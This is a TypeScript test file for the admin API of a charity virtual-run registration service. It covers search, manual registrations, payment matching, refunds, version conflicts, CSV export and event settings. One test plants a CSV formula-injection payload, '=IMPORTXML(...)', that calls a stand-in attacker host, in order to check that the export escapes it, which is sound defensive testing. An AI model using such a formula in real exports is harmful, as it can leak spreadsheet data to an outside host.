import { testUser, tokenOf } from '@satrangi/chassis/testing';
import { useFixture } from '@satrangi/chassis/use-fixture';
import { virtualRunApi } from '@satrangi/contracts';
import { expect, it } from 'vitest';
import { adminUser, bootRun, form, refusal } from './boot-run.ts';

const run = useFixture(bootRun);
const manual = (changes: object = {}, headers: Readonly<Record<string, string>> = {}) =>
  run.admin.createRegistration(
    {
      // tests also send what the types refuse
      body: { name: 'By Hand', email: 'hand@runner.example', ...changes } as never,
    },
    { headers },
  );

it('lists registrations with every field of the desk, by page, state and text (RUN-15, RUN-19, RUN-31)', async () => {
  await run.register({ name: 'Ångström Rao', email: 'find@me.example' });
  const found = await run.admin.listRegistrations({ query: { q: 'angstrom' } });

  expect(found.total).toBe(1);
  expect(found.results[0]).toMatchObject({
    email: 'find@me.example',
    distanceKm: 5,
    activityType: 'walk',
    fundraisingGoal: 1_000,
    amountPaid: 500,
    paymentStatus: 'paid',
    paymentProvider: 'stripe',
    consentData: true,
  });
  for (const q of ['.*', 'a\0b']) expect((await run.admin.listRegistrations({ query: { q } })).total).toBe(0);
  expect((await run.admin.listRegistrations({ query: { pageSize: 1 } })).results).toHaveLength(1);
});

it('finds a name in another script after the names with its letters, and erases it with the runner (BEY-03)', async () => {
  const registrations = run.service.internals.store.connection.collection('registrations');
  const own = await run.register({ name: 'शबनम राव', displayName: 'शबनम' });
  await run.register({ name: 'Shabnam Rao', displayName: 'Shabnam' });
  await registrations.updateMany({}, { $unset: { sounds: 1 } });
  await run.service.runJob('add-sounds');
  const found = async (q: string) =>
    (await run.admin.listRegistrations({ query: { q } })).results.map(({ name }) => name);

  expect(await found('shabnam')).toEqual(['Shabnam Rao', 'शबनम राव']);
  expect(await found('शबनम')).toEqual(['शबनम राव', 'Shabnam Rao']);
  expect(await found('shabnam kapoor')).toEqual([]);
  const { results } = await run.admin.listRegistrations({ query: { q: own.slug } });
  const { _id: id = '', revision } = results[0] ?? {};
  await run.admin.updateRegistration({
    params: { id },
    body: { name: 'Zoya', displayName: 'Zoya', revision },
  });
  expect(await found('shabnam')).toEqual(['Shabnam Rao']);
});

it('a manual registration needs name and email, counts, and its numbers default to 0 (RUN-16, RUN-17, RUN-29)', async () => {
  const before = await run.total();
  const made = await manual({ distanceKm: 'far', fundraisingGoal: '' });
  const objects = { distanceKm: { toString: 1 }, fundraisingGoal: [] };
  expect(await manual(objects)).toMatchObject({ distanceKm: 0, fundraisingGoal: 0 });
  const noName = await refusal(manual({ name: '' }));
  const noEmail = await refusal(manual({ email: 'x' }));

  expect(made).toMatchObject({ distanceKm: 0, fundraisingGoal: 0, source: 'admin', paymentStatus: 'manual' });
  expect([noName.message, noEmail.message]).toEqual(['Name required', 'Valid email required']);
  expect((await run.total()).total).toBe(before.total + 2);
});

it('a manual registration is made once by a request that is repeated with its Idempotency-Key (RUN-16)', async () => {
  const { paymentId } = await run.feePaid();
  const before = await run.total();
  const once = (key: string, changes: object = {}) => manual(changes, { 'idempotency-key': key });
  const [first, second] = await Promise.all([once('a'), once('a')]);
  const ofFee = await once('b', { paymentId });

  expect(second).toEqual(first);
  expect(await once('b', { paymentId })).toEqual(ofFee);
  expect((await refusal(once('c', { paymentId }))).code).toBe('already-used');
  expect((await run.total()).total).toBe(before.total + 2);
});

it('money without a runner is listed, and becomes a registration once (P9, P59)', async () => {
  const { paymentId } = await run.feePaid();
  const listed = () => run.admin.listUnmatchedPayments({ query: { minutes: 0 } });

  expect(await listed()).toMatchObject([{ kind: 'fee', paymentId, amount: 500 }]);
  expect(await run.admin.listUnmatchedPayments({ query: {} })).toEqual([]);
  expect((await refusal(manual({ paymentId: 'pi_nobody' }))).code).toBe('unknown-payment');
  expect(await manual({ paymentId })).toMatchObject({ paymentStatus: 'paid', amountPaid: 500 });
  expect((await refusal(manual({ paymentId }))).code).toBe('already-used');
  expect(await listed()).toEqual([]);
});

it('a fee of which a part went back is registered with the rest, and one that went back meanwhile does not count (P9)', async () => {
  const fee = await run.feePaid();
  await run.giveBack(fee.orderId, '', 20_000, 'part', 'virtual-run');
  const made = await manual({ paymentId: fee.paymentId });
  expect(made).toMatchObject({ paymentStatus: 'paid', amountPaid: 300 });
  expect((await run.admin.updateRegistration({ params: { id: made._id }, body: made })).amountPaid).toBe(300);

  const before = await run.total();
  for (let round = 0; round < 12; round += 1) {
    const returned = await run.feePaid();
    await Promise.allSettled([manual({ paymentId: returned.paymentId }), run.feeRefunded(returned)]);
  }
  expect(await run.total()).toEqual(before);
  expect(await run.admin.listUnmatchedPayments({ query: { minutes: 0 } })).toEqual([]);
});

it('a second payment of a form that has registered is listed at once (P9)', async () => {
  const { draftId } = await run.visitor.createDraft({ body: form() });
  await run.feePaid({ runDraftId: draftId });
  const second = await run.feePaid({ runDraftId: draftId });

  expect(await run.admin.listUnmatchedPayments({ query: {} })).toMatchObject([
    { kind: 'fee', paymentId: second.paymentId, hasDraft: true, amount: 500 },
  ]);
  await run.feeRefunded(second);
  expect(await run.admin.listUnmatchedPayments({ query: {} })).toEqual([]);
});

it('a change over a newer one is 409 with the present one; a cancelled runner does not count', async () => {
  const { slug } = await run.register();
  const { results } = await run.admin.listRegistrations({ query: { q: slug } });
  const { _id: id = '', revision } = results[0] ?? {};
  await run.admin.updateRegistration({ params: { id }, body: { displayName: 'Changed', revision } });
  const stale = await refusal(
    run.admin.updateRegistration({ params: { id }, body: { displayName: 'Stale', revision } }),
  );

  expect([stale.status, stale.code]).toEqual([409, 'version-conflict']);
  expect((await run.visitor.getPage({ params: { slug } })).displayName).toBe('Changed');

  const before = await run.total();
  await run.admin.cancelRegistration({ params: { id } });
  await run.admin.cancelRegistration({ params: { id } });

  expect((await run.total()).total).toBe(before.total - 1);
  expect((await refusal(run.visitor.getPage({ params: { slug } }))).status).toBe(404);
});

it('a fee that is paid after its registration was cancelled waits for an admin, who registers it', async () => {
  const { draftId } = await run.visitor.createDraft({ body: form() });
  const paymentId = `pi_${draftId}`;
  const { slug } = await run.visitor.register({ body: { ...form(), draftId, paymentId } });
  const { results } = await run.admin.listRegistrations({ query: { q: slug } });
  const { _id: id = '' } = results[0] ?? {};
  await run.admin.cancelRegistration({ params: { id } });

  const { orderId } = await run.feePaid({ paymentId, runDraftId: draftId });

  expect(await run.admin.listUnmatchedPayments({ query: { minutes: 0 } })).toMatchObject([
    { kind: 'fee', orderId, paymentId, amount: 500 },
  ]);
  expect(await manual({ paymentId })).toMatchObject({ paymentStatus: 'paid', amountPaid: 500 });
  expect(await run.admin.listUnmatchedPayments({ query: { minutes: 0 } })).toEqual([]);
});

it('a registration that was paid since an admin saw it is not cancelled (P81)', async () => {
  const paymentId = 'pi_seen_unpaid';
  const { draftId } = await run.visitor.createDraft({ body: form() });
  const { slug } = await run.visitor.register({ body: { ...form(), draftId, paymentId } });
  const { results } = await run.admin.listRegistrations({ query: { q: slug } });
  const { _id: id = '', revision } = results[0] ?? {};
  await run.feePaid({ paymentId, runDraftId: draftId });

  const stale = await refusal(run.admin.cancelRegistration({ params: { id }, query: { revision } }));

  expect([stale.status, stale.code]).toEqual([409, 'version-conflict']);
  expect(stale.problem.data?.current).toMatchObject({ paymentStatus: 'paid' });
  const seen = { revision: (revision ?? 0) + 1 };
  const cancel = () => run.admin.cancelRegistration({ params: { id }, query: seen });
  expect(await cancel()).toMatchObject({ paymentStatus: 'cancelled' });
  // a repeated request
  expect(await cancel()).toMatchObject({ paymentStatus: 'cancelled' });
});

it('many fees that no form belongs to do not keep a later one from its registration', async () => {
  const { draftId } = await run.visitor.createDraft({ body: form() });
  const fees = run.service.internals.store.connection.collection<{
    _id: string;
    draftId?: string;
    registrationId?: string;
  }>('fees');
  const paidAt = (minute: number) =>
    new Date(run.service.clock.now().getTime() - minute * 60_000).toISOString();
  const fee = (id: string, minute: number) => ({
    _id: id,
    paymentId: `pi_${id}`,
    minor: 50_000,
    paidAt: paidAt(minute),
  });
  const lost = Array.from({ length: 250 }, (_, at) => fee(`without-form-${at}`, 1_000 - at));
  // the process stopped before it registered this one
  const { draftId: older } = await run.visitor.createDraft({ body: form() });
  await fees.insertMany([
    ...lost,
    { ...fee('with-form', 1), draftId },
    { ...fee('days-ago', 3_000), draftId: older },
  ]);
  const isRegistered = async (_id: string) => (await fees.findOne({ _id }))?.registrationId !== undefined;

  await run.service.runJob('match-fees');

  expect([await isRegistered('with-form'), await isRegistered('days-ago')]).toEqual([true, false]);
  await run.service.runJob('match-old-fees');
  expect(await isRegistered('days-ago')).toBe(true);
  await fees.deleteMany({ _id: { $in: lost.map(({ _id }) => _id) } });
});

it('the CSV of chosen registrations has those only (BEY-07)', async () => {
  const [one] = [await manual({ displayName: 'Chosen' }), await manual({ displayName: 'Left out' })];
  const csv = (ids: string) =>
    fetch(`${run.service.url}/admin/virtual-run/registrations.csv?ids=${ids}`, {
      headers: { authorization: `Bearer ${tokenOf(adminUser)}` },
    });
  const text = await (await csv(`${one._id},unknown`)).text();

  expect(text.trimEnd().split('\r\n')).toHaveLength(2);
  expect(text).toContain('Chosen');
  expect(text).not.toContain('Left out');
  expect((await csv(`${one._id},`)).status).toBe(400);
});

it('the CSV escapes formulas (S36)', async () => {
  await manual({ displayName: '=IMPORTXML("https://evil.example")' });
  const response = await fetch(`${run.service.url}/admin/virtual-run/registrations.csv`, {
    headers: { authorization: `Bearer ${tokenOf(adminUser)}` },
  });
  const text = await response.text();

  expect(response.headers.get('content-type')).toContain('text/csv');
  expect(text).toContain('"\'=IMPORTXML(""https://evil.example"")"');
});

it('the spreadsheet is for admins, and 503 `Sync failed` without one (RUN-18, RUN-30)', async () => {
  const user = run.service.as(testUser(), virtualRunApi);
  const refused = await refusal(run.admin.syncRegistrations());

  expect([refused.status, refused.message]).toEqual([503, 'Sync failed']);
  expect((await refusal(user.syncRegistrations())).status).toBe(403);
  expect((await refusal(run.visitor.syncRegistrations())).status).toBe(401);
  expect((await refusal(user.listRegistrations({ query: {} }))).status).toBe(403);
});

it('dates, fees and phases of the event are data (RUN-11, RUN-32)', async () => {
  const event = await run.visitor.getRun();
  const draft = { ...event, tagline: 'Changed', phases: event.phases, minFee: 400, startNew: false };
  const tooCheap = await refusal(run.admin.saveEvent({ body: { ...draft, minFee: 100 } }));
  await run.admin.saveEvent({ body: draft });

  expect(tooCheap.status).toBe(400);
  expect(await run.visitor.getRun()).toMatchObject({ minFee: 400, tagline: 'Changed' });
});

it('admins read an unpublished event, and a save over a newer one is 409 with it (RUN-32)', async () => {
  const before = await run.admin.getEvent();
  const hidden = { ...before, isPublished: false, title: 'Hidden' };
  await run.admin.saveEvent({ body: hidden });
  expect((await refusal(run.visitor.getRun())).status).toBe(404);
  expect(await run.admin.getEvent()).toMatchObject({ title: 'Hidden', revision: before.revision + 1 });
  const stale = await refusal(run.admin.saveEvent({ body: { ...before, title: 'Stale' } }));
  expect([stale.status, stale.code]).toEqual([409, 'version-conflict']);
  expect(stale.problem.data?.current).toMatchObject({ title: 'Hidden' });
  await run.admin.saveEvent({ body: { ...before, revision: before.revision + 1 } });
  expect((await refusal(run.visitor.getEvent())).status).toBe(401);
});

it('a new event begins once, ends last, and is not overwritten by a form of the one before (RUN-32)', async () => {
  const before = await run.admin.getEvent();
  const { endsAt, revision } = before;
  const next = {
    ...before,
    title: 'Next',
    endsAt: new Date(Date.parse(endsAt) + 86_400_000).toISOString(),
    startNew: true,
  };
  const sooner = await refusal(run.admin.saveEvent({ body: { ...next, endsAt } }));
  const pressed = await Promise.allSettled([1, 2, 3].map(() => run.admin.saveEvent({ body: next })));
  const again = await refusal(run.admin.saveEvent({ body: next }));
  const stale = await refusal(run.admin.saveEvent({ body: { ...before, title: 'Of the one before' } }));

  expect(sooner.status).toBe(400);
  expect(pressed.filter(({ status }) => status === 'fulfilled')).toHaveLength(1);
  expect([again.code, stale.code]).toEqual(['version-conflict', 'version-conflict']);
  expect(stale.problem.data?.current).toMatchObject({ title: 'Next', revision: revision + 1 });
  expect(await run.admin.getEvent()).toMatchObject({ title: 'Next' });
  expect(await run.service.internals.store.connection.collection('events').countDocuments()).toBe(2);
});

it('a manual registration keeps the consent of its runner (RUN-16)', async () => {
  const agreed = await run.admin.createRegistration({
    body: { name: 'Kiran', email: 'kiran@reader.example', consentData: true },
  });
  expect(agreed.consentData).toBe(true);
});
